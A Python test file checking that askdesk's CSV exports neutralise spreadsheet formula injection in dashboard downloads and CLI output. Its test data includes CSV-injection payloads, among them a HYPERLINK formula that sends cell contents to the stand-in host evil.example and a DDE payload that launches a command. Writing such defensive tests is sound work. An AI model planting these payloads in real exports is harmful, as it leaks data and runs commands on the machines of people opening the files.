"""Every CSV askdesk writes opens in a spreadsheet as data: a customer's question that starts like a
formula (CSV injection, OWASP) is neutralised with a leading apostrophe, in the dashboard's downloads
and the CLI's output alike; numbers stay numbers."""
import csv
import io
import re

import pytest
from click.testing import CliRunner

from askdesk.analytics.spreadsheet import FORMULA_STARTS, safe_cell, to_csv
from askdesk.shell.app import create_app
from askdesk.shell.cli import main
from askdesk.store.tokens import SqlTokens

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Reset")', "+1 555 0100 call me", "-2+3 where is my parcel",
            "@SUM(A1:A9) refund", "\t=1+1 tabbed", "\r=1+1 returned", "\uff1dcmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_a_formula_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["where is my order", "a=b", " =1 (a space first)", "", "'quoted", 3, -3, 2.5,
                                   -0.5, True, None])
def test_other_cells_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_every_formula_start_is_covered():
    assert set(FORMULA_STARTS) >= {"=", "+", "-", "@", "\t", "\r"}
    assert safe_cell(("=", "x")) == "('=', 'x')"            # not text: written as its str, which is safe


def test_to_csv_neutralises_every_cell_and_keeps_numbers():
    rows = [{"question": text, "asked": -1 if n == 0 else n, "share_pct": 12.5} for n, text in enumerate(FORMULAS)]
    parsed = list(csv.reader(io.StringIO(to_csv(rows), newline="")))
    assert parsed[0] == ["question", "asked", "share_pct"]
    assert [r[0] for r in parsed[1:]] == ["'" + t.replace("\r", "\n") for t in FORMULAS]   # a bare CR splits no row
    assert [r[1] for r in parsed[1:]] == ["-1", *map(str, range(1, len(FORMULAS)))]
    assert {r[2] for r in parsed[1:]} == {"12.5"}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")) for cell in row]


def _assert_safe(text: str, where: str) -> None:
    cells = _cells(text)
    assert cells, where
    for cell in cells:
        assert not cell.startswith(FORMULA_STARTS) or re.fullmatch(r"-\d+(\.\d+)?", cell), f"{where}: {cell!r}"


def test_the_dashboard_and_the_cli_write_safe_csv(hash_config):
    app = create_app({**hash_config, "rate_limit": ""})
    client = app.test_client()
    for text in FORMULAS[:4]:
        sid = client.post("/api/v1/sessions", json={"locale": "en"}).get_json()["session_id"]
        assert client.post(f"/api/v1/sessions/{sid}/messages", json={"text": text}).status_code == 200
    token = SqlTokens(app.extensions["askdesk"].store).create("erin", "editor")[0]
    editor = app.test_client()
    csrf = re.search(r'name="csrf" value="([^"]+)"', editor.get("/agent/login").get_data(as_text=True)).group(1)
    assert editor.post("/agent/login", data={"token": token, "csrf": csrf}).status_code == 302
    for path in ("/editor/reports/top_questions.csv", "/editor/reports/low_confidence.csv", "/editor/gaps.csv"):
        response = editor.get(path)
        assert response.status_code == 200 and response.mimetype == "text/csv", path
        _assert_safe(response.get_data(as_text=True), path)
    top = editor.get("/editor/reports/top_questions.csv").get_data(as_text=True)
    assert "'" + FORMULAS[0] in _cells(top)                 # there, and neutralised
    env = {"ASKDESK_STORE_URL": hash_config.store_url, "ASKDESK_INDEX_DIR": hash_config.index_dir,
           "ASKDESK_ENCODER": "hash"}
    report = CliRunner().invoke(main, ["report", "--format", "csv", "--section", "top_questions"], env=env)
    assert report.exit_code == 0, report.output
    _assert_safe(report.output, "askdesk report")
    assert "'" + FORMULAS[0] in _cells(report.output)
    gaps = CliRunner().invoke(main, ["gaps", "--format", "csv"], env=env)
    assert gaps.exit_code == 0, gaps.output
    _assert_safe(gaps.output, "askdesk gaps")
    app.extensions["askdesk"].store.close()
